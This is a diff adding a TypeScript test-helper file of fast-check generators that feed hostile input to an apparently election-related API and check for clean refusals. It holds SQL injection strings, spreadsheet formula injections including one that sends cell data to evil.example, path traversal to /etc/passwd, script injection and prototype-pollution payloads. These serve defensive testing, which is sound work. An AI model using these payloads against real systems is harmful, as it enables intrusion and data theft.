@@ -1,0 +1,223 @@
+/**
+ * fast-check generators of hostile input for the hostile-*.test.ts files, and the one assertion they
+ * share: a refusal is a 4xx with a stable JSON error code, no stack trace, and no row written.
+ */
+import fc from 'fast-check';
+import { expect } from 'vitest';
+import { IDENTITY_HEX, NON_CANONICAL_POINT, SCALAR_L } from '../../crypto/test/helpers.ts';
+import type { ApiResponse, Harness } from './harness.ts';
+
+/** Classic SQL injection strings: they must be stored and returned as text, never run. */
+export const SQL_INJECTIONS = [
+  "'; DROP TABLE voters; --",
+  "Robert'); DROP TABLE board;--",
+  "' OR '1'='1",
+  '" OR ""="',
+  '1; DELETE FROM ballots WHERE 1=1; --',
+  "' UNION SELECT code_hash FROM login_codes --",
+  "Қ' || (SELECT secret_key FROM server_keys) || '",
+  "\\x27; ATTACH DATABASE '/tmp/x.db' AS x; --",
+];
+
+/** Cells a spreadsheet would run as a formula (OWASP CSV injection), with every trigger character. */
+export const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+];
+
+/** Keys that pollute prototypes when code assigns them carelessly. */
+export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
+
+/** Hex strings that must never decode as a point or a scalar where one is expected. */
+export const BAD_GROUP_HEX = [
+  NON_CANONICAL_POINT,
+  IDENTITY_HEX,
+  SCALAR_L,
+  'f'.repeat(64),
+  'e'.repeat(64).toUpperCase(),
+  '00'.repeat(31),
+  '00'.repeat(33),
+  '',
+];
+
+export const hostileString: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(...SQL_INJECTIONS, ...FORMULAS, ...PROTO_KEYS, ...BAD_GROUP_HEX),
+  fc.constantFrom(
+    '\u0000',
+    '\u202e\u0635', // right-to-left override
+    '<script>alert(1)</script>',
+    '../../../etc/passwd',
+    '%00%2e%2e',
+    '\ud800', // a lone surrogate
+    '\uFEFFbom',
+  ),
+  fc.string({ maxLength: 40 }),
+  fc.string({ unit: 'grapheme', maxLength: 20 }),
+  fc.nat({ max: 300_000 }).map((n) => 'Ж'.repeat(Math.max(1, n % 60_000))),
+);
+
+const hostileKey = fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 }));
+
+/** Any JSON value, with hostile keys and strings, huge numbers and long arrays. */
+export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
+  value: fc.oneof(
+    { depthSize: 'small', withCrossShrink: true },
+    fc.constantFrom(null, true, false, 0, -0, 1e308, -1e308, 2 ** 53 + 1, 0.1, -1),
+    fc.integer(),
+    hostileString,
+    fc.array(tie('value'), { maxLength: 4 }),
+    fc.nat({ max: 20_000 }).map((n) => Array.from({ length: n }, (_, i) => i)),
+    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
+  ),
+})).value;
+
+/** A JSON body that is never `{}` (which some endpoints accept as "no parameters"). */
+export const hostileBody: fc.Arbitrary<unknown> = hostileJson.filter(
+  (v) => !(typeof v === 'object' && v !== null && !Array.isArray(v) && Object.keys(v).length === 0),
+);
+
+/**
+ * Raw request bodies that are not JSON, or JSON that must not parse into something an endpoint
+ * accepts: truncated, nested past any sane depth, own `__proto__` keys, a BOM, trailing garbage.
+ */
+export const rawJsonText: fc.Arbitrary<string> = fc.oneof(
+  fc.string({ minLength: 1, maxLength: 60 }),
+  fc.nat({ max: 60_000 }).map((n) => '['.repeat(n + 1) + ']'.repeat(n + 1)),
+  fc.nat({ max: 20_000 }).map((n) => '{"a":'.repeat(n + 1) + '1' + '}'.repeat(n + 1)),
+  fc.nat({ max: 20_000 }).map((n) => '['.repeat(n + 1)),
+  fc.constantFrom(
+    '{"__proto__":{"polluted":true}}',
+    '{"constructor":{"prototype":{"polluted":true}}}',
+    '{"a":1,"a":2}',
+    '\uFEFF{"a":1}',
+    '{"a":1} trailing',
+    '{"a":1e999999}',
+    "{'a':1}",
+    '{"a":"\\ud800"}',
+    'null',
+    '"just a string"',
+    '12',
+    ' ',
+  ),
+  hostileBody.map((v) => {
+    const s = JSON.stringify(v) ?? 'null';
+    return s.slice(0, Math.max(1, s.length - 1)); // truncated
+  }),
+);
+
+/** Every leaf path of a JSON value, to mutate a valid document one place at a time. */
+export function paths(v: unknown, at: (string | number)[] = []): (string | number)[][] {
+  if (Array.isArray(v)) return [at, ...v.flatMap((x, i) => paths(x, [...at, i]))];
+  if (typeof v === 'object' && v !== null)
+    return [at, ...Object.entries(v).flatMap(([k, x]) => paths(x, [...at, k]))];
+  return [at];
+}
+
+function getAt(v: unknown, path: (string | number)[]): unknown {
+  return path.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], v);
+}
+
+/** One way to spoil a value: group elements that must be refused, truncation, wrong types, removal. */
+export type Mutation =
+  | { kind: 'replace'; with: unknown }
+  | { kind: 'truncate'; keep: number }
+  | { kind: 'extend' }
+  | { kind: 'flip'; at: number }
+  | { kind: 'upper' }
+  | { kind: 'delete' }
+  | { kind: 'duplicate' }
+  | { kind: 'proto' };
+
+export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
+  fc
+    .constantFrom(...BAD_GROUP_HEX, null, 0, [], {}, true, 'zz')
+    .map((w) => ({ kind: 'replace' as const, with: w })),
+  fc.nat({ max: 200 }).map((keep) => ({ kind: 'truncate' as const, keep })),
+  fc.constant({ kind: 'extend' as const }),
+  fc.nat({ max: 200 }).map((at) => ({ kind: 'flip' as const, at })),
+  fc.constant({ kind: 'upper' as const }),
+  fc.constant({ kind: 'delete' as const }),
+  fc.constant({ kind: 'duplicate' as const }),
+  fc.constant({ kind: 'proto' as const }),
+);
+
+/** A deep copy of `doc` with `m` applied at `path` (the root when the path is empty). */
+export function mutate(doc: unknown, path: (string | number)[], m: Mutation): unknown {
+  const copy = JSON.parse(JSON.stringify(doc)) as unknown;
+  const parent =
+    path.length === 0 ? null : (getAt(copy, path.slice(0, -1)) as Record<string | number, unknown>);
+  const key = path[path.length - 1]!;
+  const old = parent ? parent[key] : copy;
+  const set = (v: unknown) => {
+    if (parent) parent[key] = v;
+    return parent ? copy : v;
+  };
+  switch (m.kind) {
+    case 'replace':
+      return set(m.with);
+    case 'truncate':
+      return typeof old === 'string' ? set(old.slice(0, m.keep % Math.max(1, old.length))) : set(old);
+    case 'extend':
+      return set(typeof old === 'string' ? old + '00' : Array.isArray(old) ? [...old, old[0]] : [old]);
+    case 'flip': {
+      if (typeof old !== 'string' || old.length === 0) return set(String(old) + '!');
+      const i = m.at % old.length;
+      const c = old[i]!;
+      return set(old.slice(0, i) + (c === '0' ? '1' : c === 'a' ? 'b' : '0') + old.slice(i + 1));
+    }
+    case 'upper':
+      return set(typeof old === 'string' ? old.toUpperCase() : old);
+    case 'delete':
+      if (!parent) return undefined;
+      if (Array.isArray(parent)) parent.splice(key as number, 1);
+      else delete parent[key];
+      return copy;
+    case 'duplicate':
+      if (Array.isArray(parent)) parent.splice(key as number, 0, JSON.parse(JSON.stringify(old)) as unknown);
+      return copy;
+    case 'proto':
+      // An own "__proto__" key, as JSON.parse makes it; a plain assignment would set the prototype.
+      if (typeof old === 'object' && old !== null && !Array.isArray(old))
+        Object.defineProperty(old, '__proto__', { value: { polluted: true }, enumerable: true });
+      else set({ __proto__: null, value: old });
+      return copy;
+  }
+}
+
+/** A 4xx with a stable code, nothing internal in the text. */
+export function expectClientError(r: ApiResponse): void {
+  const shown = `${r.status} ${r.text.slice(0, 300)}`;
+  expect(r.status, shown).toBeGreaterThanOrEqual(400);
+  expect(r.status, shown).toBeLessThan(500);
+  expect(r.headers.get('content-type') ?? '', shown).toMatch(/^application\/json/);
+  expect(r.body?.error?.code, shown).toMatch(/^[A-Z][A-Z0-9_]{1,40}$/);
+  expect(typeof r.body.error.message, shown).toBe('string');
+  expectNoLeak(r.text);
+}
+
+/** No stack frame, source path or error class name that only a crash would show. */
+export function expectNoLeak(text: string): void {
+  expect(text).not.toMatch(/\n\s+at |\bat [\w.<>]+ \(|node_modules|\/src\/[\w/-]+\.ts|file:\/\//);
+  expect(text).not.toMatch(/SqliteError|TypeError|RangeError|ReferenceError|SyntaxError: /);
+}
+
+/** Run `send`, then assert a clean refusal that changed no table and no board entry. */
+export async function expectRefusedUnchanged(
+  h: Harness,
+  send: () => Promise<ApiResponse>,
+): Promise<ApiResponse> {
+  const before = h.snapshot();
+  const r = await send();
+  expectClientError(r);
+  expect(h.snapshot(), `${r.status} ${r.text.slice(0, 200)}`).toEqual(before);
+  return r;
+}
+
+/** Runs per property: enough to find a crash across many endpoints, small enough for 2 shared cores. */
+export const RUNS = Number(process.env.HOSTILE_RUNS ?? 12);
